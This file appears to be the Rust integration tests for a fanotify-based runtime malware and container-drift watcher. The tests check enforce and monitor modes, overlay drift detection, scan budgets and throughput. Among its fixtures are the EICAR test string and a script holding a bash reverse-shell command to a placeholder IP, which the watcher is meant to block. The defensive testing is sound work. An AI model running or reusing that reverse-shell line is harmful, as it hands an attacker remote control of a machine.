//! The watcher on real fanotify: filesystems mounted for the test (a tmpfs; an overlay built
//! the way container engines build a container's root), accessed by child processes (the
//! watcher never judges its own process).
//!
//! Needs root. Skipped elsewhere with a message, except under `CI`, where a skip is a failure.

#![allow(clippy::print_stderr)] // skips and the load figures are said where test output shows them

use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use rempart_malware::MalwareScanner;
use rempart_runtime::{
    Access, Action, DefaultAction, EventSink, Mode, Reason, Target, WatchConfig, WatchError,
    WatchEvent, Watcher,
};

const EICAR: &str = r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

#[derive(Default)]
struct Collected(Mutex<Vec<WatchEvent>>);

impl EventSink for Collected {
    fn event(&self, event: &WatchEvent) {
        self.0.lock().unwrap().push(event.clone());
    }
}

impl Collected {
    fn events(&self) -> Vec<WatchEvent> {
        self.0.lock().unwrap().clone()
    }
}

/// Mount points made for a test, unmounted (innermost first) when it ends.
struct Mounts {
    dir: tempfile::TempDir,
    points: Vec<PathBuf>,
}

impl Mounts {
    /// A tmpfs under a fresh directory.
    fn tmpfs() -> Mounts {
        let dir = tempfile::tempdir().unwrap();
        let point = dir.path().join("fs");
        std::fs::create_dir(&point).unwrap();
        mount(
            &["-t", "tmpfs", "-o", "size=256m,mode=755", "tmpfs"],
            &point,
        );
        Mounts {
            dir,
            points: vec![point],
        }
    }

    /// An overlay on a tmpfs: `lower` filled by `image`, then mounted with an empty upper
    /// directory, as an engine starts a container from its image's layers.
    fn overlay(image: impl FnOnce(&Path)) -> Mounts {
        let mut mounts = Mounts::tmpfs();
        let base = mounts.points[0].clone();
        for part in ["lower", "upper", "work", "merged"] {
            std::fs::create_dir(base.join(part)).unwrap();
        }
        image(&base.join("lower"));
        let options = format!(
            "lowerdir={},upperdir={},workdir={}",
            base.join("lower").display(),
            base.join("upper").display(),
            base.join("work").display()
        );
        let merged = base.join("merged");
        mount(&["-t", "overlay", "-o", &options, "overlay"], &merged);
        mounts.points.push(merged);
        mounts
    }

    fn root(&self) -> &Path {
        self.points.last().unwrap()
    }
}

impl Drop for Mounts {
    fn drop(&mut self) {
        for point in self.points.iter().rev() {
            let _ = Command::new("umount").arg("-l").arg(point).status();
        }
        let _ = &self.dir;
    }
}

fn mount(args: &[&str], point: &Path) {
    let status = Command::new("mount")
        .args(args)
        .arg(point)
        .status()
        .unwrap();
    assert!(status.success(), "mount {args:?} {}", point.display());
}

/// Starts a watcher on `root`, or `None` (with a message) where fanotify permission events are
/// not available to this process.
fn watch(config: WatchConfig, root: &Path) -> Option<(Watcher, Arc<Collected>)> {
    let sink = Arc::new(Collected::default());
    let scanner = Arc::new(MalwareScanner::builtin());
    match Watcher::start(config, scanner, Arc::clone(&sink) as Arc<dyn EventSink>) {
        Ok(watcher) => {
            watcher.add(Target::at(root, None).unwrap()).unwrap();
            Some((watcher, sink))
        }
        Err(WatchError::Init(error)) => {
            assert!(
                std::env::var_os("CI").is_none(),
                "fanotify is needed under CI: {error}"
            );
            eprintln!("skipped: fanotify permission events are not available here ({error})");
            None
        }
        Err(error) => panic!("{error}"),
    }
}

fn mounted() -> Option<Mounts> {
    let probe = Command::new("mount").arg("--version").output();
    let root =
        std::fs::metadata("/proc/self").is_ok_and(|m| std::os::unix::fs::MetadataExt::uid(&m) == 0);
    if probe.is_err() || !root {
        assert!(
            std::env::var_os("CI").is_none(),
            "the watch tests need root under CI"
        );
        eprintln!("skipped: mounting test filesystems needs root");
        return None;
    }
    Some(Mounts::tmpfs())
}

fn write_executable(path: &Path, content: &[u8]) {
    std::fs::write(path, content).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

fn copy_true(to: &Path) {
    std::fs::copy(which("true"), to).unwrap();
    std::fs::set_permissions(to, std::fs::Permissions::from_mode(0o755)).unwrap();
}

fn which(program: &str) -> PathBuf {
    ["/usr/bin", "/bin"]
        .iter()
        .map(|dir| Path::new(dir).join(program))
        .find(|p| p.exists())
        .unwrap()
}

/// Executes a file in a child process: `Ok(exit success)`, or the error `execve` gave.
fn execute(path: &Path) -> std::io::Result<bool> {
    Command::new(path).status().map(|status| status.success())
}

/// Opens and reads a file in a child process (`cat`): true when it could.
fn read_in_child(path: &Path) -> (bool, String) {
    let out = Command::new("cat").arg(path).output().unwrap();
    (
        out.status.success(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn is_eperm(result: &std::io::Result<bool>) -> bool {
    matches!(result, Err(error) if error.raw_os_error() == Some(1))
}

#[test]
fn enforce_mode_denies_malware_on_exec_and_open_and_never_a_clean_file() {
    let Some(fs) = mounted() else { return };
    let eicar = fs.root().join("eicar.com");
    write_executable(&eicar, EICAR.as_bytes());
    let shell = fs.root().join("connect-back.sh");
    write_executable(
        &shell,
        b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n",
    );
    let clean = fs.root().join("true");
    copy_true(&clean);
    let notes = fs.root().join("notes.txt");
    std::fs::write(&notes, "nothing to see\n").unwrap();
    let Some((watcher, sink)) = watch(WatchConfig::default(), fs.root()) else {
        return;
    };

    let executed = execute(&eicar);
    assert!(is_eperm(&executed), "EICAR executed: {executed:?}");
    let executed = execute(&shell);
    assert!(is_eperm(&executed), "reverse shell executed: {executed:?}");
    let (read, stderr) = read_in_child(&eicar);
    assert!(
        !read && stderr.contains("Operation not permitted"),
        "{stderr}"
    );
    for _ in 0..3 {
        assert!(execute(&clean).unwrap(), "a clean program must run");
        assert!(read_in_child(&notes).0, "a clean file must open");
    }

    let stats = watcher.stop();
    let events = sink.events();
    let malware: Vec<_> = events
        .iter()
        .filter(|e| e.reason == Reason::Malware)
        .collect();
    assert!(
        malware.iter().any(|e| e.path == "/eicar.com"
            && e.rule == "MAL-TEST-EICAR"
            && e.access == Access::Exec
            && e.action == Action::Denied),
        "{events:#?}"
    );
    assert!(
        malware
            .iter()
            .any(|e| e.path == "/eicar.com" && e.access == Access::Open),
        "{events:#?}"
    );
    assert!(
        malware
            .iter()
            .any(|e| e.path == "/connect-back.sh" && e.action == Action::Denied),
        "{events:#?}"
    );
    assert!(
        events
            .iter()
            .all(|e| e.path != "/true" && e.path != "/notes.txt"),
        "clean files reported: {events:#?}"
    );
    assert!(stats.denied >= 3, "{stats:?}");
    assert!(
        stats.cache_hits > 0,
        "repeated accesses come from the cache: {stats:?}"
    );
}

#[test]
fn monitor_mode_reports_what_enforce_mode_would_deny_and_denies_nothing() {
    let Some(fs) = mounted() else { return };
    let eicar = fs.root().join("eicar.com");
    write_executable(&eicar, EICAR.as_bytes());
    let config = WatchConfig {
        mode: Mode::Monitor,
        ..WatchConfig::default()
    };
    let Some((watcher, sink)) = watch(config, fs.root()) else {
        return;
    };
    // Not a program: the kernel refuses it as such (ENOEXEC), not the watcher (EPERM).
    let executed = execute(&eicar);
    assert!(!is_eperm(&executed), "monitor mode denied: {executed:?}");
    assert!(read_in_child(&eicar).0, "monitor mode denied an open");
    let stats = watcher.stop();
    assert_eq!(stats.denied, 0);
    let events = sink.events();
    assert!(
        events.iter().any(|e| e.rule == "MAL-TEST-EICAR"
            && e.action == Action::Allowed
            && e.mode == Mode::Monitor),
        "{events:#?}"
    );
}

#[test]
fn a_program_written_after_the_container_started_is_drift() {
    let Some(probe) = mounted() else { return };
    drop(probe);
    let fs = Mounts::overlay(|lower| {
        std::fs::create_dir(lower.join("bin")).unwrap();
        copy_true(&lower.join("bin/true"));
    });
    let dropped = fs.root().join("tmp-tool");
    copy_true(&dropped);
    // A program of the image, whose metadata changed after start, is copied up to the upper
    // directory: that is a change to the image too, and reported as such.
    let Some((watcher, sink)) = watch(WatchConfig::default(), fs.root()) else {
        return;
    };
    assert!(
        execute(&fs.root().join("bin/true")).unwrap(),
        "the image's own program must run"
    );
    let executed = execute(&dropped);
    assert!(is_eperm(&executed), "drift executed: {executed:?}");
    // Reading the dropped file is not drift: only executing it is.
    assert!(read_in_child(&dropped).0);
    watcher.stop();
    let events = sink.events();
    assert_eq!(events.len(), 1, "{events:#?}");
    assert_eq!(events[0].reason, Reason::Drift);
    assert_eq!(events[0].rule, "RUNTIME-DRIFT");
    assert_eq!(events[0].path, "/tmp-tool");
    assert_eq!(events[0].action, Action::Denied);

    // Monitor mode: the same program runs, and is reported.
    let config = WatchConfig {
        mode: Mode::Monitor,
        ..WatchConfig::default()
    };
    let Some((watcher, sink)) = watch(config, fs.root()) else {
        return;
    };
    assert!(execute(&dropped).unwrap());
    watcher.stop();
    let events = sink.events();
    assert!(
        events
            .iter()
            .any(|e| e.reason == Reason::Drift && e.action == Action::Allowed),
        "{events:#?}"
    );
}

#[test]
fn the_default_action_applies_past_the_budget_and_the_size_cap() {
    let Some(fs) = mounted() else { return };
    // Big enough that no scan finishes within a millisecond.
    let big = fs.root().join("big.bin");
    let block: Vec<u8> = (0..1024 * 1024_u32).map(|i| (i * 7 % 251) as u8).collect();
    std::fs::write(&big, block.repeat(24)).unwrap();
    let config = WatchConfig {
        budget: Duration::from_millis(1),
        default_action: DefaultAction::Deny,
        ..WatchConfig::default()
    };
    let Some((watcher, sink)) = watch(config, fs.root()) else {
        return;
    };
    let started = std::time::Instant::now();
    let (read, _) = read_in_child(&big);
    assert!(!read, "the default action (deny) applies past the budget");
    assert!(started.elapsed() < Duration::from_secs(5));
    // The scan went on after the answer: the next open has a cached verdict, clean.
    std::thread::sleep(Duration::from_millis(1500));
    assert!(read_in_child(&big).0, "the cached verdict answers in time");
    watcher.stop();
    let events = sink.events();
    assert!(
        events
            .iter()
            .any(|e| e.reason == Reason::Timeout && e.action == Action::Denied),
        "{events:#?}"
    );

    let small_cap = WatchConfig {
        max_file_size: 1024,
        default_action: DefaultAction::Allow,
        ..WatchConfig::default()
    };
    let Some((watcher, sink)) = watch(small_cap, fs.root()) else {
        return;
    };
    assert!(
        read_in_child(&big).0,
        "allowed by default when over the cap"
    );
    watcher.stop();
    assert!(
        sink.events()
            .iter()
            .any(|e| e.reason == Reason::Unscanned && e.rule == "RUNTIME-UNSCANNED"),
        "{:#?}",
        sink.events()
    );
}

/// 10,000 opens a second for 10 seconds through the watched filesystem, from another process:
/// every open answered (none lost), none waiting longer than the budget.
#[test]
fn ten_thousand_opens_a_second_are_all_answered_within_the_budget() {
    let Some(fs) = mounted() else { return };
    for i in 0..200 {
        std::fs::write(fs.root().join(format!("f{i}")), format!("file {i}\n")).unwrap();
    }
    let budget = Duration::from_millis(500);
    let config = WatchConfig {
        budget,
        ..WatchConfig::default()
    };
    let Some((watcher, sink)) = watch(config, fs.root()) else {
        return;
    };
    let script = r#"
import json, os, sys, time
root, rate, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
names = [os.path.join(root, "f%d" % i) for i in range(200)]
opened = failed = 0
slowest = 0.0
start = time.monotonic()
for second in range(seconds):
    for i in range(rate):
        before = time.monotonic()
        try:
            os.close(os.open(names[i % len(names)], os.O_RDONLY))
            opened += 1
        except OSError:
            failed += 1
        slowest = max(slowest, time.monotonic() - before)
    pause = start + second + 1 - time.monotonic()
    if pause > 0:
        time.sleep(pause)
print(json.dumps({"opened": opened, "failed": failed, "slowest": slowest,
                  "elapsed": time.monotonic() - start}))
"#;
    let out = Command::new("python3")
        .args(["-c", script])
        .arg(fs.root())
        .args(["10000", "10"])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let stats = watcher.stop();
    let result: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    eprintln!("load: {result} {stats:?}");
    assert_eq!(result["opened"], 100_000, "{result}");
    assert_eq!(result["failed"], 0, "{result}");
    assert!(
        result["slowest"].as_f64().unwrap() < budget.as_secs_f64() + 0.1,
        "an open waited longer than the budget: {result}"
    );
    // Every open was a question answered: none was lost or left to the kernel.
    assert!(stats.decisions >= 100_000, "{stats:?}");
    assert_eq!(stats.timeouts, 0, "{stats:?}");
    assert!(sink.events().is_empty());
}
